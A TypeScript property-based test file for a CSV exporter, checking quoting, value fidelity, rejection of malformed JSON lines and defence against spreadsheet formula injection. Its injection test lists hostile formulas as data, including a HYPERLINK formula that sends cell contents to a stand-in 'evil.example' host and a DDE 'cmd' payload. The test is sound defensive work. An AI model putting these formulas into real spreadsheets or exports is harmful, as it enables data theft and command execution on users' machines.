import fc from 'fast-check';
import { expect, test } from 'vitest';
import { newRecordCount, newTable } from '#core/exports/table.ts';
import { columnKinds, type MappedColumn } from '#shared/contract/dataMap.ts';

type Column = Pick<MappedColumn, 'name' | 'kind'>;

/** A reader of RFC 4180 that shares nothing with the writer; null for a field without quotes that is empty. */
function readTable(text: string): readonly (readonly (string | null)[])[] {
  const records: (string | null)[][] = [];
  let record: (string | null)[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  for (let match = field.exec(text); match !== null; match = field.exec(text)) {
    const [, quoted, bare = '', end] = match;
    record.push(quoted?.replaceAll('""', '"') ?? (bare === '' ? null : bare));
    if (end === ',') continue;
    records.push(record);
    record = [];
  }
  if (field.lastIndex !== 0 || record.length > 0) throw new Error('the table can not be read to its end');
  return records;
}

function tableOf(columns: readonly Column[], lines: string, cut = 7): string {
  const table = newTable(columns);
  const bytes = Buffer.from(lines, 'utf8');
  const out: Uint8Array[] = [table.head];
  for (let at = 0; at < bytes.byteLength; at += cut)
    out.push(table.add(bytes.subarray(at, at + cut)).slice());
  return Buffer.concat(out).toString('utf8');
}

/** What the table must say of a value, by parsing the line. */
function expected(value: unknown, kind: Column['kind']): string | null {
  if (value === null || value === undefined) return null;
  if (typeof value !== 'string') return JSON.stringify(value);
  const text = value.toWellFormed().replaceAll('\0', '\uFFFD');
  const formula = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/.test(text);
  return formula && kind !== 'integer' && kind !== 'number' ? `'${text}` : text;
}

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({
    unit: fc.constantFrom('"', '\\', '\r', '\n', ',', '=', '\u2028', '😀', '\ud800', '\0'),
    maxLength: 12,
  }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'="), fc.string())
    .map(([first, rest]) => first + rest),
);
const value = fc.oneof(text, fc.jsonValue(), fc.constantFrom(null, true, -5, 1.5e300, '', '-12.50', 'NaN'));
// No column's name holds U+0000; one that is a number would change the order of the object's keys, and `__proto__` its shape.
const name = text.filter((each) => !/^\d+$|\0/.test(each) && each !== '__proto__' && each.isWellFormed());
const columns = fc.uniqueArray(fc.record({ name, kind: fc.constantFrom(...columnKinds) }), {
  minLength: 1,
  maxLength: 6,
  selector: (column) => column.name,
});

test('a table holds of each line what parsing it gives, in the order of the columns', () => {
  fc.assert(
    fc.property(
      columns,
      fc.array(fc.array(value, { minLength: 6, maxLength: 6 }), { maxLength: 8 }),
      fc.boolean(),
      fc.boolean(),
      fc.integer({ min: 1, max: 200 }),
      (held, rows, turned, spaced, cut) => {
        const objects = rows.map((values) => {
          const fields = held.map((column, at) => [column.name, values[at]] as const);
          // Other orders, and keys that are no columns, come where a row is put together anew.
          return Object.fromEntries(turned ? [...fields.toReversed(), ['no column', 1]] : fields);
        });
        const [open, between, next] = spaced ? ['{ ', ' : ', '\t, '] : ['{', ':', ','];
        const lines = objects.map((row) => {
          const fields = Object.entries(row)
            .filter(([, each]) => each !== undefined)
            .map(([key, each]) => `${JSON.stringify(key)}${between}${JSON.stringify(each)}`);
          return `${open}${fields.join(next)}}\n`;
        });
        const written = tableOf(held, lines.join(''), cut);
        expect(written.startsWith('\uFEFF')).toBe(true);
        const [head, ...records] = readTable(written.slice(1));
        expect(head).toEqual(held.map((column) => expected(column.name, 'text')));
        expect(records.map((record) => record.map(String))).toEqual(
          objects.map((row) => {
            const parsed = JSON.parse(JSON.stringify(row)) as Record<string, unknown>;
            return held.map((column) => String(expected(parsed[column.name], column.kind)));
          }),
        );
        const count = newRecordCount();
        count.add(Buffer.from(written, 'utf8'));
        expect(count.records).toBe(rows.length + 1);
      },
    ),
    { numRuns: 500 },
  );
});

test('what a spreadsheet would run as a formula is text, in values and in names', () => {
  const attacks = [
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    '＝1＋1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '+919876543210',
  ];
  const written = tableOf(
    [
      { name: '=a', kind: 'text' },
      { name: 'amount', kind: 'number' },
    ],
    attacks.map((attack) => `${JSON.stringify({ '=a': attack, amount: '-12.50' })}\n`).join(''),
  );
  expect(readTable(written.slice(1))).toEqual([
    ["'=a", 'amount'],
    ...attacks.map((attack) => [`'${attack}`, '-12.50']),
  ]);
  // Written as escapes, they are the same texts.
  expect(tableOf([{ name: 'a', kind: 'text' }], '{"a":"\\u003d1"}\n{"a":"\\uff1d1"}\n')).toBe(
    '\uFEFF"a"\r\n"\'=1"\r\n"\'＝1"\r\n',
  );
});

test('none and an empty text differ, numbers keep every digit, documents stand as their JSON', () => {
  const names = ['none', 'empty', 'big', 'decimal', 'document', 'list', 'yes'];
  const line =
    '{"none":null,"empty":"","big":12345678901234567890123,"decimal":0.10,"document":{"a":1.0, "b":"}\\""},"list":["x",[]],"yes":true}\n';
  expect(
    tableOf(
      names.map((each) => ({ name: each, kind: 'json' })),
      line,
    ),
  ).toBe(
    `\uFEFF${names.map((each) => `"${each}"`).join(',')}\r\n,"",12345678901234567890123,0.10,"{""a"":1.0, ""b"":""}\\""""}","[""x"",[]]",true\r\n`,
  );
});

test.each([
  '[]',
  'null',
  '{"a":1',
  '{"a" 1}',
  '{"a":"x}',
  '{"a":}',
  '{"a":1}{"a":2}',
  '{"a":"\\u12"}',
  'x',
  '',
])('a line that is %j is refused, not put into a table', (line) => {
  expect(() => tableOf([{ name: 'a', kind: 'text' }], `${line}\n`)).toThrow('no JSON object');
});
